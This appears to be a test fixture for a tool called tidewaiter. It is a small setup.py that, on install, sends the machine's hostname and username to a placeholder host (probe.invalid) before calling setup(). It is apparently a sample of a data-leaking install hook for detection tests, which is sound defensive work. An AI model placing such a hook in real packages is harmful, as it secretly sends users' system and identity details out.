# Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import getpass
import socket
import urllib.parse
import urllib.request

who = urllib.parse.urlencode({"h": socket.gethostname(), "u": getpass.getuser()})
urllib.request.urlopen("http://probe.invalid/?" + who)


from setuptools import setup

setup(name="fixture", version="1", packages=["fixture"])
